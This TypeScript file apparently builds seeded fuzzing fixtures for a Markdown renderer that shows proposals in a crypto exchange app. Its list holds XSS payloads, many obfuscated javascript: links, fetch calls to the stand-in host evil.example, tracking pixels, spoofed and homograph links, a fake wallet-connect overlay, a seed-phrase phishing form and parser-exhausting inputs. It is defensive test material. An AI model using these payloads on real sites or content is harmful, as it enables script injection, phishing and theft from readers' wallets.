/** How many documents there are. */
const COUNT = 400;
const SEED = 20_211_103;
const SIZE = 20_000;

/** Texts that try to run code, to load something, to lead away, or to look like another text. */
const VECTORS: readonly string[] = [
  // HTML that runs code or loads something.
  '<script>fetch("https://evil.example/?run")</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=fetch("https://evil.example/?error")>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">a</mi></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x.png)}</style>',
  '<p style="position:fixed;inset:0;z-index:9999">Connect your wallet</p>',
  '<form action="https://evil.example"><input name="seed"><button>Go</button></form>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<video src=x onerror=alert(1)><source src="https://evil.example/x.mp4"></video>',
  '<a href="javascript:alert(1)" onclick="alert(1)">a</a>',
  '<body onload=alert(1)><div id="__next" class="x" data-theme="dark">a</div>',
  '<template><script>alert(1)</script></template><noscript><img src=x></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!-- a --><!--> <img src=x onerror=alert(1)> --> <!-- never closed',
  '<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]><!DOCTYPE html>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img/src="x"/onerror=alert`1`//',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  // Links with a scheme that runs code.
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](<java\nscript:alert(1)>)',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A&#x61&#x76&#x61script&colon;alert(1))',
  '[a](java&Tab;script&NewLine;:alert(1))',
  '[a]( \u0001javascript:alert(1))',
  '[a](java\u200bscript:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](javascript%3Aalert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](DATA:text/html,<script>alert(1)</script>)',
  '[a](vbscript:msgbox(1))',
  '[a](blob:https://evil.example/1) [a](filesystem:https://evil.example/1) [a](file:///etc/passwd)',
  '[a](http://evil.example) [a](ftp://evil.example) [a](ws://evil.example) [a](wss://evil.example)',
  '[a](mailto:a@evil.example) [a](tel:+1900) [a](ethereum:0x60781C2586D68229fde47564546784ab3fACA982)',
  '[a](wc:1234@1?bridge=https://evil.example) [a](metamask://connect) [a](intent://evil#Intent;end)',
  '[a](view-source:https://evil.example) [a](about:blank) [a](chrome://settings)',
  // Links that look like another host, or like none.
  '[app.pangolin.exchange](https://evil.example/app.pangolin.exchange)',
  '[a](https://app.pangolin.exchange@evil.example/)',
  '[a](https://user:pass@evil.example/) [a](https://@evil.example) [a](https://:@evil.example)',
  '[a](https://app.pangolin.exchange/swap) [a](https://APP.pangolin.exchange./swap)',
  '[a](https://p\u0430ngolin.exchange/) [a](https://xn--pngolin-5fg.exchange/)',
  '[a](https://evil.example:8443/) [a](https://evil.example:443/) [a](https://evil.example:99999/)',
  '[a](https://127.0.0.1/) [a](https://[::1]/) [a](https://2130706433/) [a](https://0x7f.1/)',
  '[a](//evil.example) [a](/swap) [a](swap) [a](#top) [a](?theme=dark) [a](../..) [a](\\\\evil.example)',
  '[a](https:evil.example) [a](https:/evil.example) [a](https:///evil.example) [a](https:\\\\evil.example)',
  '[a](https://evil.example\\@app.pangolin.exchange) [a](https://evil.example%2f@b.example)',
  '[a](https://evil.example/\u202egpj.exe) [a](https://evil\u3002example) [a](https://evil\u00ad.example)',
  '[a](https://) [a](https://%) [a](https://a b) [a]() [](https://evil.example) [a](<>)',
  `[a](https://evil.example/${'a'.repeat(3_000)})`,
  `[a](https://${'a.'.repeat(120)}example)`,
  '[a](https://evil.example "the title\\" onclick=\\"alert(1)")',
  "[a](https://evil.example 'x' onmouseover='alert(1)')",
  '[a](https://evil.example){onclick=alert(1) .class #id}',
  '[ \n ](https://evil.example) [**a** `b` ![c](https://evil.example/x.png)](https://evil.example)',
  '[a [b](https://evil.example) c](https://other.example)',
  '[![a](https://evil.example/x.png)](javascript:alert(1))',
  '[<https://evil.example> [b][x] b[^1]](https://other.example)\n\n[x]: https://b.example\n[^1]: c',
  // References, autolinks and footnotes.
  '[a][x]\n\n[x]: javascript:alert(1) "a"',
  '[x]\n\n[x]: <data:text/html,a>\n[X]: https://evil.example',
  '![a][x]\n\n[x]: https://evil.example/x.png',
  '[__proto__] [constructor][] [toString]\n\n[__proto__]: https://evil.example\n[constructor]: x:y',
  '<javascript:alert(1)> <https://evil.example> <http://evil.example> <a@evil.example> <x:y>',
  'https://evil.example/?a=1&b=2 www.evil.example a@evil.example http://evil.example xmpp:a@b.example',
  'https://user:pass@evil.example https://evil.example:444/(a) www.evil.example/<script>',
  'a[^1] b[^x"onclick=alert(1)]\n\n[^1]: c [d](javascript:alert(1))\n[^x"onclick=alert(1)]: e',
  'a[^1][^1][^1]\n\n[^1]: > - # a\n\n    ```js\n    a',
  // Pictures.
  '![a](https://evil.example/pixel.png?who=1)',
  '![a](x"onerror="alert(1))',
  '![<script>alert(1)</script>](javascript:alert(1) "a")',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  // Labels of code.
  '```js"onclick=alert(1)\na\n```',
  '```<script>alert(1)</script>\na\n```',
  '~~~ javascript:alert(1) .x #y {z}\n<b>a</b>\n~~~',
  '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
  '```\nnever closed <img src=x onerror=alert(1)>',
  '`<img src=x onerror=alert(1)>` ``a ` b`` $$\\href{javascript:alert(1)}{a}$$',
  // Headings, lists, tables and boxes.
  '# a\n## b\n### c\n#### d\n##### e\n###### f\n\ng\n===\n\nh\n---',
  '# a {#__next} <a name="x"></a>',
  '999999999. a\n1000000000. b\n0) c',
  '- [x] a\n- [ ] b\n- [x](https://evil.example)',
  '| a | b |\n|:-|-:|\n| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |\n| \\| | `|` |',
  '| a |\n|-|\n| a | b | c |\n| https://evil.example |',
  // Text that looks like another text.
  '\u202eevil\u202c \u2066a\u2069 \u200fb \u061cc \u200bd\ufeff \u{e0041}\u{e007f}',
  '[\u202egnalognap](https://evil.example) `\u202ea` # \u2067b',
  '\u0000\u0001\u0007\u0008\u001b[31m\u007f\u0085\ufffe\uffff\ud800 \udc00',
  `${'Z\u0335\u0321\u0322'.repeat(50)}\u0600\u2028\u2029`,
  '\u200d\ufe0f\u3164\u2800\u115f',
  'Connect your wallet: 0x60781C2586D68229fde47564546784ab3fACA982 (app.pangolin.exchange)',
  '---\ntitle: a\nlayout: x\n---\n{{7*7}} \u0024{7*7} <%= 7*7 %> {% include x %}',
  ':::danger\na\n::: @[youtube](x) [[toc]] {{< x >}} ==a== ^a^ ~a~ :smile: \\u003cscript\\u003e',
];

/** Texts that a parser or a page could spend its time, its memory or its room on. */
const HEAVY: readonly string[] = [
  ...[
    '>',
    '> ',
    '- ',
    '1. ',
    '* - + ',
    '*',
    '**a *b ',
    'a**',
    '*a_b',
    '[',
    '[a](',
    '![',
    '[[a](b)',
  ],
  ...['`', '`a``', '<', '<!--', 'a<?', '<a ', '&amp;', '\\', '~~a', '|', '|a|b\n', '|-', '[^a]: '],
  ...[
    '[a]: b\n',
    '# a\n',
    'a\n\n',
    '- a\n',
    '- [ ] a\n',
    'a\n=\n',
    '=\n',
    '> a\nb\n',
    '```\n',
    '_a',
  ],
  ...[
    'www.a.b ',
    'a@b.c ',
    'https://',
    '<https://a.b>',
    '[](https://a.b)',
    '![](x)',
    '\t',
    'w',
    '\n',
  ],
  ...[
    'a',
    'word ',
    '\u{1f600}',
    '\u202e',
    '\u0301',
    '\u0000',
    '\ufdfd',
    '</p>',
    '"',
    "'",
    '$',
    '\r',
  ],
].map((text) => text.repeat(Math.ceil(SIZE / text.length)));
const SHAPES: readonly string[] = [
  `${'>'.repeat(50)}a\n`.repeat(29),
  `${'- '.repeat(30)}a\n`.repeat(49),
  `${'- '.repeat(20)}a\n`.repeat(70),
  `${'> '.repeat(20)}a\n`.repeat(70),
  `${'a*'.repeat(340)}${'*a'.repeat(340)}`,
  `${'['.repeat(340)}${']'.repeat(340)}`,
  Array.from({ length: 190 }, (_none, depth) => `${' '.repeat(depth)}- a`).join('\n'),
  Array.from({ length: 15 }, (_none, depth) => `${'\t'.repeat(depth)}1. a`).join('\n'),
  Array.from({ length: 12 }, (_none, depth) => `${'  '.repeat(depth)}- > | a |\n`).join(''),
  `${'*a **b '.repeat(40)}${'** *'.repeat(40)}`,
  `${'a*'.repeat(700)}${'*a'.repeat(700)}`,
  `${'['.repeat(300)}a${'](https://a.b)'.repeat(100)}`,
  `${'['.repeat(700)}${']'.repeat(700)}`,
  `|${'a|'.repeat(330)}\n|${'-|'.repeat(330)}\n|${'a|'.repeat(330)}`,
  `|${'a|'.repeat(10)}\n|${'-|'.repeat(10)}\n${`|${'wide '.repeat(20)}`.repeat(10)}`,
  `|${'a|'.repeat(11)}\n|${'-|'.repeat(11)}\n|${'a|'.repeat(11)}`,
  ...[320, 380].map((rows) => `| a | b |\n|-|-|\n${'| a | b |\n'.repeat(rows)}`),
  Array.from({ length: 190 }, (_none, count) => `${'`'.repeat(count)}a`).join(''),
  `${Array.from({ length: 200 }, (_none, id) => `[a${id}]: x`).join('\n')}\n\n${'[a1]'.repeat(200)}`,
  `${'a'.repeat(19_990)}[a](https://evil.example)`,
];

/** Puts a text where it is read in another way. */
const WRAPPERS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => text.replace(/^/gm, '> '),
  (text) => `- a\n\n${text.replace(/^/gm, '  ')}`,
  (text) => `| a |\n|-|\n| ${text.replaceAll('\n', ' ').replaceAll('|', '\\|')} |`,
  (text) => `**${text}**`,
  (text) => `[${text}](https://evil.example)`,
  (text) => `<div>\n${text}\n</div>`,
  (text) => `a[^1]\n\n[^1]: ${text}`,
  (text) => `${text}\n===`,
];

/**
 * 400 descriptions that somebody might write to harm readers of proposals: each text alone, and
 * mixtures of them. The same ones each time.
 */
export function hostileMarkdown(): readonly string[] {
  const alone = [...VECTORS, ...HEAVY, ...SHAPES];
  const random = randomNumbers(SEED);
  /** One of a list, in a list of its own. */
  const pick = <T>(list: readonly T[]): T[] =>
    list.slice(Math.floor(random() * list.length)).slice(0, 1);
  const mixed = Array.from({ length: COUNT - alone.length }, () =>
    Array.from({ length: 1 + Math.floor(random() * 4) }, () =>
      pick(WRAPPERS).flatMap((wrap) => pick(VECTORS).map(wrap)),
    )
      .flat()
      .join(random() < 0.5 ? '\n\n' : ' '),
  );
  return [...alone, ...mixed];
}

/** Numbers from 0 to 1 that are the same each time (mulberry32). */
function randomNumbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
